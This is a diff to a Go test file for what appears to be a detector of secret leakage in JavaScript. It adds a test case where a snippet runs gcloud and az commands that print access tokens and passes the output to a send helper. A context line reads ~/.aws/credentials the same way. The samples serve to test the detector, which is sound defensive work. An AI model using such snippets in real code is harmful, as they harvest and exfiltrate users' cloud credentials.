@@ -76,6 +76,14 @@ func TestWhatProgramsTell(t *testing.T) {
 			waysStart(`const d = cp.execSync('git --version').toString();` + post("d")), chainTextSent,
 		},
 		{
+			"a key that one of several programs of a table prints",
+			waysStart(`const all = [['gcloud', ['auth', 'print-access-token']], ['az', ['account', 'get-access-token', '-o', 'tsv']],
+				['git', ['config', 'user.email']]]; const d = await Promise.all(all.map(([c, a]) => run(c, a)));` + post("d.join()")),
+			waysStart(`const all = [['gcloud', ['config', 'get-value']], ['az', ['account', 'show', '-o', 'tsv']],
+				['git', ['config', 'user.email']]]; const d = await Promise.all(all.map(([c, a]) => run(c, a)));` + post("d.join()")),
+			chainSecretSent,
+		},
+		{
 			"a file that is shown", waysStart(`const d = cp.execSync('cat ~/.aws/credentials').toString();` + post("d")),
 			waysStart(`const d = cp.execSync('cat ~/.aws/credentials').toString(); console.log(d);`), chainSecretSent,
 		},
